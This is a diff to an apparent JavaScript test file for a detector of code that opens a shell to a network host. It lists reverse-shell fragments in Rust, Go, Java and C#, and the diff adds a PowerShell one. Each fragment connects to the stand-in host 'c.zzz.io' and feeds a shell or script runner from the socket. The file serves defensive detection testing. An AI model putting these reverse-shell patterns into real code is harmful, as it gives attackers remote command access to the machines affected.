@@ -121,6 +121,7 @@ describe("a shell on a connection in a compiled language", () => {
     'let s = TcpStream::connect("c.zzz.io:1").unwrap();\nlet f = s.as_raw_fd();\nCommand::new("/bin/sh").stdin(unsafe { Stdio::from_raw_fd(f) });',
     'c, _ := net.Dial("tcp", "c.zzz.io:1")\ncmd := exec.Command("/bin/sh")\ncmd.Stdin = c',
     'Socket s = new Socket("c.zzz.io", 1);\nProcess p = new ProcessBuilder("/bin/sh").start();',
+    "$c = New-Object Net.Sockets.TCPClient('c.zzz.io', 8443)\n$s = $c.GetStream()\nwhile (($i = $s.Read($b, 0, 9)) -ne 0) { & ([scriptblock]::Create($t)) }",
     'var c = new TcpClient("c.zzz.io", 1);\np.StartInfo.FileName = "cmd.exe";\np.StartInfo.RedirectStandardInput = true;',
   ])("%s", (text) => expect(seenInScript(text)).toEqual(["opens a shell to a network host"]));
 
